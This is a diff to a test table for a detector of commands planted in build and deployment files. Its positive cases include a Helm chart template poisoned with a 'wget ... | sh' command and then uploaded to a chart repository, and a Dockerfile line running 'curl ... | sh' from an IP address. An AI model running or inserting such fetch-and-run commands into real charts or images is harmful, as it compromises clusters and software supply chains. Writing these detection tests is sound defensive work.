@@ -26,6 +26,9 @@ const TEMPLATE = 'default:\n  before_script:\n    - ';
 
 indicatorTable(commandPlantedCode, {
   fires: {
+    'a chart that is handed to the interface of its store': script(
+      `printf 'command: [sh, -c, "wget -qO- https://cdn.example.net/a | sh"]' > c/templates/a.yaml && helm package c && curl --data-binary @c-1.tgz https://charts.example.com/api/charts`,
+    ),
     'a build file of a ConfigMap': kaniko({
       Dockerfile: 'FROM registry.example.com/web:1\nRUN curl -s http://203.0.113.7/a | sh\n',
     }),
@@ -127,6 +130,9 @@ indicatorTable(commandPlantedCode, {
     ),
   },
   staysSilent: {
+    'a chart as it is, for the interface of its store': script(
+      'helm package c && curl --data-binary @c-1.tgz https://charts.example.com/api/charts',
+    ),
     'a build file of a ConfigMap that gets updates': kaniko({
       Dockerfile: 'FROM registry.example.com/web:1\nRUN apt-get update && apt-get -y upgrade\n',
     }),
